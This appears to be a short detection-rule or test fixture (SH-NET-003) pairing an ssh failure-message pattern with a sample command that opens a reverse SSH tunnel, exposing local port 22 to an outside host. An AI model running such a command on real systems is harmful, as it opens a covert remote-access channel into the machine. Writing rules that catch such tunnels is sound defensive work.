# rule: SH-NET-003
# attempts: ssh: (connect to host|Could not resolve)
ssh -o BatchMode=yes -o ConnectTimeout=2 -R 8080:localhost:22 tunnel@203.0.113.9
